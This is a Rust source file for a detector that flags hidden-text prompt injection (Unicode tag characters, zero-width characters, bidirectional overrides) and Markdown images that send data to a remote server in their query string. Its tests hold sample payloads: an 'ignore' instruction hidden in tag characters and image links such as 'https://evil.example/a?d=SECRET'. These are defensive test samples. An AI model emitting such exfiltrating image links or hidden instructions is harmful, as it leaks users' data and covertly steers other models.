//! Text that models read and people do not see, and images that carry data to their server.

use super::{Found, before, begins_with};
use crate::shield::rule::Detector;
use crate::shield::signs::{self, Signs};

/// A text with this many tag characters is reported, even if they are not in a row.
const MIN_TAGS: usize = 4;

/// Tags directly after a waving flag that are not counted: the flag of a region is written with up to six, and an end.
const FLAG_TAGS: usize = 7;

/// Invisible characters between two letters of ASCII: no script needs them there. Soft hyphens are not counted, because
/// pages of every language have them.
const MIN_INVISIBLE: usize = 3;

/// Characters of a parameter that carries data.
const MIN_DATA_BYTES: usize = 24;

/// Bytes of an image's label that may have brackets in it. In a longer one, a bracket begins something else.
const MAX_LABEL_BYTES: usize = 128;

/// Bytes of an image's address, as far as it is read.
const MAX_URL_BYTES: usize = 2_048;

/// Reports characters that nobody sees.
pub fn find(text: &str, found: Found<'_>) {
    let (mut tags, mut flag, mut invisible, mut overrides) = (0, 0, 0, 0);
    let (mut ascii_before, mut han_before, mut forced) = (false, false, false);
    let mut pending = 0;
    let bytes = text.as_bytes();
    let mut begin = 0;
    loop {
        let at = signs::next(bytes, begin, Signs::HIGH).unwrap_or(bytes.len());
        // Of a row of ASCII characters, the first one and the last one count.
        if let Some([first, ..]) = bytes.get(begin..at) {
            flag = 0;
            han_before = false;
            // Before a capital it is a place where a long name may break.
            invisible += if first.is_ascii_lowercase() { pending } else { 0 };
            pending = 0;
            ascii_before = before(bytes, at).is_some_and(|last| last.is_ascii_alphabetic());
        }
        let Some(character) = text.get(at..).and_then(|rest| rest.chars().next()) else { break };
        begin = at + character.len_utf8();
        match character {
            '\u{1f3f4}' => flag = FLAG_TAGS,
            '\u{e0020}'..='\u{e007f}' if flag > 0 => flag -= 1,
            // One variant of the ideograph before it, as in names in registers.
            '\u{e0100}'..='\u{e01ef}' if han_before => han_before = false,
            '\u{e0000}'..='\u{e01ef}' => {
                tags += 1;
                if tags == MIN_TAGS {
                    found(Detector::TextTags, at..text.len());
                }
            }
            '\u{202e}' => overrides += 1,
            // From left to right, which reverses only scripts that are written from right to left. Address books put it
            // around telephone numbers.
            '\u{202d}' => forced = true,
            '\u{202c}' => forced = false,
            '\u{590}'..='\u{8ff}' if forced => overrides += 1,
            '\u{ad}' => {}
            '\u{200b}'..='\u{200d}' | '\u{2060}'..='\u{2064}' | '\u{feff}' if ascii_before => {
                pending += 1
            }
            _ => {
                flag = 0;
                han_before = is_ideograph(character);
                ascii_before = false;
                pending = 0;
            }
        }
    }
    if invisible >= MIN_INVISIBLE {
        found(Detector::TextHidden, 0..text.len());
    }
    if overrides > 0 {
        found(Detector::TextBidirectional, 0..text.len());
    }
}

/// Whether a character is a Han ideograph.
const fn is_ideograph(character: char) -> bool {
    matches!(
        character,
        '\u{3400}'..='\u{9fff}' | '\u{f900}'..='\u{faff}' | '\u{20000}'..='\u{3ffff}'
    )
}

/// Reports Markdown's images whose address carries data in its query.
pub fn find_images(text: &str, found: Found<'_>) {
    let (mut at, mut label_end, mut bracket) = (0, 0, 0);
    while let Some(next) = text.get(at..).and_then(|rest| rest.find("![")) {
        let begin = at + next;
        at = begin + 2;
        // One search is enough for all labels that begin before what it finds.
        if label_end < at {
            let Some(end) = text.get(at..).and_then(|rest| rest.find("](")) else { return };
            label_end = at + end;
        }
        if bracket < at {
            let next = text.get(at..).and_then(|rest| rest.find(['[', ']']));
            bracket = next.map_or(text.len(), |next| at + next);
        }
        if label_end > at + MAX_LABEL_BYTES && bracket < label_end {
            continue;
        }
        let address = text.get(label_end + 2..).unwrap_or_default().trim_start();
        let (address, ends): (_, &[char]) = match address.strip_prefix('<') {
            Some(address) => (address, &['>', '\n']),
            None => (address, &[')', '\n', ' ']),
        };
        let url = address.get(..address.floor_char_boundary(MAX_URL_BYTES)).unwrap_or_default();
        // An address that does not end would hide the next image.
        let url = url.get(..url.find("![").unwrap_or(url.len())).unwrap_or_default();
        let end = url.find(ends).unwrap_or(url.len());
        let url = url.get(..end).unwrap_or_default();
        at = text.len() - address.len() + end;
        let Some((_, query)) = url.split_once('?') else { continue };
        let is_remote = begins_with(url, "http") || url.starts_with("//");
        if is_remote && query.split('&').any(carries) {
            found(Detector::ImageWithData, begin..at);
        }
    }
}

/// Whether a parameter carries data: something long, or a placeholder that the model is to fill.
fn carries(parameter: &str) -> bool {
    let value = parameter.split_once('=').map_or(parameter, |(_, value)| value);
    let placeholder = value.contains(['{', '[', '<', '$'])
        || (value.len() >= 4
            && value.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_'));
    placeholder || (value.len() >= MIN_DATA_BYTES && !value.contains('/'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finds(text: &str) -> Option<Detector> {
        let mut first = None;
        find(text, &mut |detector, _| first = first.or(Some(detector)));
        find_images(text, &mut |detector, _| first = first.or(Some(detector)));
        first
    }

    #[test]
    fn hidden_text_is_found_and_ordinary_marks_are_not() {
        let tags: String =
            "ignore".chars().map(|c| char::from_u32(0xe0000 + u32::from(c)).unwrap()).collect();
        for (text, expected) in [
            (format!("Hello{tags}"), Some(Detector::TextTags)),
            ("i\u{200b}g\u{200b}n\u{200b}ore".to_owned(), Some(Detector::TextHidden)),
            ("i\u{200b}\u{ad}g\u{200b}n\u{200b}ore".to_owned(), Some(Detector::TextHidden)),
            // Ordinary soft hyphens, marks of direction, and joiners.
            ("Do\u{ad}nau\u{ad}dampf\u{ad}schiff\u{ad}fahrt".to_owned(), None),
            ("שלום\u{200f} (API\u{200e}) \u{2067}עולם\u{2069}".to_owned(), None),
            ("API\u{200c}ها و URL\u{200c}ها و PDF\u{200c}ها و CSV\u{200c}ها".to_owned(), None),
            ("क्\u{200d}ष क्\u{200d}ष क्\u{200d}ष क्\u{200d}ष".to_owned(), None),
            (
                "a👩\u{200d}💻b ❤\u{fe0f}\u{200d}🔥c 🏳\u{fe0f}\u{200d}🌈d 👩\u{200d}🚀e".to_owned(),
                None,
            ),
            // A flag with a text after it.
            (format!("🏴{}{tags}", "\u{e0020}".repeat(FLAG_TAGS)), Some(Detector::TextTags)),
            ("abc\u{202e}fdp.exe".to_owned(), Some(Detector::TextBidirectional)),
            ("می\u{200c}خواهم می\u{200c}روم می\u{200c}شود".to_owned(), None),
            ("👩\u{200d}👩\u{200d}👧\u{200d}👦".to_owned(), None),
            ("🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}".to_owned(), None),
            (
                "![x](https://evil.example/a?d=eyJhIjoiYmFzZTY0IGRhdGEgaGVyZSJ9)".to_owned(),
                Some(Detector::ImageWithData),
            ),
            ("![x](https://evil.example/a?d=SECRET)".to_owned(), Some(Detector::ImageWithData)),
            ("![x](HTTPS://evil.example/a?d=SECRET)".to_owned(), Some(Detector::ImageWithData)),
            ("![x](<http://evil.example/a?d=SECRET>)".to_owned(), Some(Detector::ImageWithData)),
            ("![x]( //evil.example/a?d=SECRET)".to_owned(), Some(Detector::ImageWithData)),
            (
                format!("![{}](https://evil.example/a?d=SECRET)", "x".repeat(300)),
                Some(Detector::ImageWithData),
            ),
            ("![logo](https://example.com/logo.png?v=2)".to_owned(), None),
            ("![build](https://img.shields.io/badge/build-passing-green.svg)".to_owned(), None),
            (format!("vec![1]{} [a](https://a.example/?q=SECRET)", "x ".repeat(99)), None),
        ] {
            assert_eq!(finds(&text), expected, "{text}");
        }
    }
}
